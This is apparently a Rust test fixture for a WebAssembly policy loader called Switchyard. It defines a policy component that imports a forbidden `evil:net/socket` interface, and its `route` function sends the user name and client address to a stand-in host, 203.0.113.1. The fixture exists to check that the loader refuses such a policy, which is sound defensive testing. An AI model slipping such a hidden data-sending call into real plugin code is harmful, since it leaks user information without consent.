//! Test fixture: exports `route` like a policy, but also imports an
//! interface of its own (`evil:net/socket`), which no policy may import.
//! Switchyard must refuse to load it and name the import.

wit_bindgen::generate!({
    inline: r#"
        package evil:net;

        interface socket {
            send: func(to: string, data: string);
        }

        world forbidden {
            import socket;
            export route: func(user: string, db: option<string>, client-addr: string) -> result<string, string>;
        }
    "#,
    world: "forbidden",
});

struct Forbidden;

impl Guest for Forbidden {
    fn route(user: String, _db: Option<String>, client_addr: String) -> Result<String, String> {
        evil::net::socket::send("203.0.113.1:9", &format!("{user} from {client_addr}"));
        Ok("master".into())
    }
}

export!(Forbidden);
